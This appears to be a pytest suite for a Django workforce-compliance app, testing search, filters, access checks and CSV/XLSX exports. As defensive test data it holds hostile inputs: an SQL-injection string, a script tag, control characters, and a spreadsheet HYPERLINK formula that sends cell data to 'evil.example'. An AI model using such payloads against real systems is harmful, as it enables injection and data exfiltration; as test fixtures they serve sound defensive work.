"""Filters, the search, the fragment, places first, and workbooks of the manager's page."""

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from compliance.managing.views import manage
from compliance.obligations.actions import recompute_obligations
from compliance.obligations.models import Obligation
from courses.models import Course
from foundation.text import Folded, folded
from tests.compliance.builders import certify, require, worker
from tests.people import Cast, person, sign_in
from tests.replay import replayed
from workforce.people.models import Membership, Oversight
from workforce.units.models import Unit

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("Łukasz Żółć", "lukasz zolc"),
        ("ŞTEFAN", "stefan"),
        ("Đorđe", "dorde"),
        ("مُحَمَّد", "محمد"),
        ("李", "李"),
        ("", ""),
    ],
)
def test_marks_and_capitals_do_not_matter(written: str, plain: str) -> None:
    assert folded(written) == plain


@given(
    st.text(
        alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30
    )
)
def test_folding_twice_changes_nothing_more_for_names_in_latin_script(text: str) -> None:
    latin = "".join(letter for letter in text if letter < "\u0250")
    assert folded(folded(latin)) == folded(latin)


@pytest.mark.parametrize(
    "name", ["Łukasz Żółć", "Ștefan Popescu", "مُحَمَّد", "Søren Ångström", "José O’Neill"]
)
def test_the_database_folds_as_the_rule_does(name: str) -> None:
    someone = person(name, email="someone@example.org")
    rows = type(someone).objects.get_queryset().annotate(plain=Folded("name"))
    assert rows.get(pk=someone.pk).plain == folded(name)


@replayed
def employ_three(cast: Cast, today: date) -> None:
    """Amina (night porter), Łukasz (agency, day, Polish, number PL-07), Bogdan (certified)."""
    require(cast.area, cast.course)
    lukasz = worker(
        cast.workplace, name="Łukasz Żółć", shift="day", is_agency=True, staff_number="PL-07"
    )
    type(lukasz).objects.filter(pk=lukasz.pk).update(
        preferred_language="pl", learner_id="K7M4-QP2X"
    )
    certify(worker(cast.workplace, name="Bogdan 100%"), cast.course, on=today)


@pytest.fixture
def three_to_find(cast: Cast, today: date) -> Cast:
    """Amina (night porter), Łukasz (agency, day, Polish, number PL-07), Bogdan (certified)."""
    employ_three(cast, today)
    return cast


def names(client: Client, **query: Any) -> set[str]:
    """Who is in the table."""
    return {row.person.name for row in client.get("/manage/", query).context["page"].object_list}


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ({"q": "zolc lukasz"}, {"Łukasz Żółć"}),
        ({"q": "ŻÓŁĆ"}, {"Łukasz Żółć"}),
        ({"q": "pl-07"}, {"Łukasz Żółć"}),
        ({"q": "k7m4qp2x"}, {"Łukasz Żółć"}),
        ({"q": "7m4-q"}, {"Łukasz Żółć"}),
        ({"q": "100%"}, {"Bogdan 100%"}),
        ({"q": "%"}, {"Bogdan 100%"}),
        ({"q": "_"}, set()),
        ({"q": "lukasz amina"}, set()),
        ({"role": "night-porter"}, {"Amina Yusuf"}),
        ({"language": "pl"}, {"Łukasz Żółć"}),
        ({"agency": "yes"}, {"Łukasz Żółć"}),
        ({"agency": "no", "standing": "certified"}, {"Bogdan 100%"}),
        ({"course": "cse-hotel", "shift": "night"}, {"Amina Yusuf"}),
        ({"course": "none-such"}, set()),
        ({"q": "  "}, {"Amina Yusuf", "Bogdan 100%", "Łukasz Żółć"}),
    ],
)
def test_people_are_found(
    client: Client, three_to_find: Cast, query: dict[str, str], found: set[str]
) -> None:
    assert names(sign_in(client, three_to_find.bruno), **query) == found


HOSTILE = (
    "'; DROP TABLE x;--",
    "\ud800",
    "<script>",
    "%00",
    "x" * 5000,
    "🙂" * 300,
    "\\",
    "[a-",
    "\u202e",
)


@pytest.mark.parametrize("name", ["q", "role", "language", "course"])
def test_hostile_words_find_nobody_and_break_nothing(
    client: Client, three_to_find: Cast, name: str
) -> None:
    sign_in(client, three_to_find.bruno)
    for hostile in HOSTILE:
        for address in ("/manage/people.csv", "/manage/history/"):
            response = client.get(address, {name: hostile.encode("utf-8", "surrogatepass")})
            assert response.status_code == 200, hostile
            assert b"<script>" not in response.getvalue()
    assert client.get("/manage/", {name: "a\0b"}).status_code in (200, 400)
    assert client.get("/manage/", {name: "<script>"}).status_code == 200


def test_what_is_asked_stays_in_links_and_forms(client: Client, three_to_find: Cast) -> None:
    page = sign_in(client, three_to_find.bruno).get(
        "/manage/", {"q": "luk", "shift": "day", "standing": "overdue"}
    )
    text = page.content.decode()
    assert 'value="luk"' in text
    assert '<option value="day" selected>' in text
    assert "standing=overdue&amp;shift=day&amp;q=luk" in text
    assert {
        chip["query"] for chip in page.context["chips"] if "shift=day" not in chip["query"]
    } == set()


def test_the_fragment_is_only_the_results_with_the_same_refusals(
    client: Client, three_to_find: Cast
) -> None:
    headers = {"HX-Request": "true"}
    fragment = sign_in(client, three_to_find.bruno).get("/manage/", {"q": "luk"}, headers=headers)
    assert "<html" not in fragment.content.decode()
    assert "Łukasz" in fragment.content.decode()
    assert "HX-Request" in fragment["Vary"]
    restored = client.get("/manage/", headers={**headers, "HX-History-Restore-Request": "true"})
    assert "<html" in restored.content.decode()
    for who in (three_to_find.amina, three_to_find.esther):
        assert sign_in(Client(), who).get("/manage/", headers=headers).status_code == 403
    unit = {"unit": three_to_find.workplace.uuid}
    assert (
        sign_in(Client(), three_to_find.chloe).get("/manage/", unit, headers=headers).status_code
        == 403
    )


def test_another_place_is_a_page_of_its_own(client: Client, three_to_find: Cast) -> None:
    """The sentence above the results is about the place: it must not stay when the results are another's."""
    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
    headers = {"HX-Request": "true", "HX-Current-URL": "http://testserver/manage/?q=amina"}
    sign_in(client, three_to_find.bruno)
    answer = client.get("/manage/", {"unit": three_to_find.workplace.uuid}, headers=headers)
    assert answer["HX-Redirect"] == f"/manage/?unit={three_to_find.workplace.uuid}"
    assert "Amina" in client.get("/manage/", headers=headers).content.decode()
    broken = {**headers, "HX-Current-URL": "http://[broken"}
    assert client.get("/manage/", headers=broken).status_code == 200


def test_many_rows_show_places_first_until_something_is_asked(
    client: Client, three_to_find: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(manage, "PLACES_FIRST", 2)
    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
    page = sign_in(client, three_to_find.bruno).get("/manage/")
    assert "Amina" not in page.content.decode()
    ((place, counted),) = page.context["children"]
    assert (place.name, counted.people, counted.ready) == ("Riverside Hotels", 3, 1)
    assert names(client, q="amina") == {"Amina Yusuf"}
    below = client.get("/manage/", {"unit": three_to_find.workplace.uuid})
    assert "Amina" in below.content.decode()
    assert [unit.name for unit in below.context["above"]] == ["Thurrock", "Riverside Hotels"]


def test_a_manager_sees_no_name_of_a_place_above_their_own(
    client: Client, three_to_find: Cast
) -> None:
    page = sign_in(client, three_to_find.bruno).get("/manage/")
    assert page.context["above"] == []
    assert "Thurrock" not in page.content.decode()


def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(
    client: Client, three_to_find: Cast
) -> None:
    worker(three_to_find.workplace, name="=1+1\x0b")
    today = timezone.localdate()
    response = sign_in(client, three_to_find.bruno).get("/manage/people.xlsx")
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response))).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert not sheet.sheet_view.rightToLeft
    header, *rows = sheet.iter_rows(values_only=True)
    table = [dict(zip(header, row, strict=True)) for row in rows]
    assert {row["Name"] for row in table} == {"Amina Yusuf", "Łukasz Żółć", "Bogdan 100%", "'=1+1"}
    held = next(row["Valid until"] for row in table if row["Name"] == "Bogdan 100%")
    assert held.date() == today + timedelta(days=364)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("sign", ["\x01", "\x0b", "\x1f", " \x02 "])
def test_nothing_runs_that_hid_behind_a_control_sign(
    client: Client, three_to_find: Cast, sign: str
) -> None:
    """In the workbook, where no such sign may stand, and in the file for every other program."""
    worker(three_to_find.workplace, name=f'{sign}=HYPERLINK("https://evil.example/?"&A2)')
    sign_in(client, three_to_find.bruno)
    sheet = load_workbook(io.BytesIO(b"".join(client.get("/manage/people.xlsx")))).active
    assert sheet is not None
    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    text = b"".join(client.get("/manage/people.csv")).decode("utf-8-sig")
    [name] = [row[0] for row in csv.reader(io.StringIO(text)) if "HYPERLINK" in row[0]]
    assert name.startswith("'")


def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(
    client: Client, three_to_find: Cast
) -> None:
    sign_in(client, three_to_find.bruno)
    response = client.get("/manage/people.xlsx", {"q": "zolc"}, headers={"accept-language": "ur"})
    sheet = load_workbook(io.BytesIO(b"".join(response))).active
    assert sheet is not None
    assert sheet.sheet_view.rightToLeft
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Łukasz Żółć"]


def test_files_cost_the_same_for_ten_as_for_one(
    client: Client, cast: Cast, assert_constant_queries: Any
) -> None:
    require(cast.area, cast.course)
    sign_in(client, cast.bruno)
    assert_constant_queries(
        lambda: worker(cast.workplace), lambda: b"".join(client.get("/manage/people.xlsx"))
    )


def test_an_exemption_that_ended_and_one_that_binds(client: Client, three_to_find: Cast) -> None:
    """The chips count what the table shows."""
    today = timezone.localdate()
    Obligation.objects.filter(person=three_to_find.amina).update(
        exempt_from=today, exempt_until=today
    )
    Course.objects.create(code="unused", title="Unused")
    page = sign_in(client, three_to_find.bruno).get("/manage/", {"standing": "exempt"})
    assert {row.person.name for row in page.context["page"].object_list} == {"Amina Yusuf"}
    counts = {chip["label"]: chip["count"] for chip in page.context["chips"]}
    assert str(counts["Exempt"]) == "1"
    assert page.context["overview"].people.people == 2


def test_someone_who_works_twice_below_is_counted_once(client: Client, three_to_find: Cast) -> None:
    annexe = three_to_find.hotels.add_child(name="Annexe", kind=Unit.Kind.WORKPLACE)
    Membership.objects.create(person=three_to_find.amina, unit=annexe, from_on=date(2024, 5, 1))
    recompute_obligations(people=[three_to_find.amina.pk], on=timezone.localdate())
    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
    page = sign_in(client, three_to_find.bruno).get("/manage/")
    assert page.context["overview"].people.people == 3
    assert page.context["overview"].rows == 4
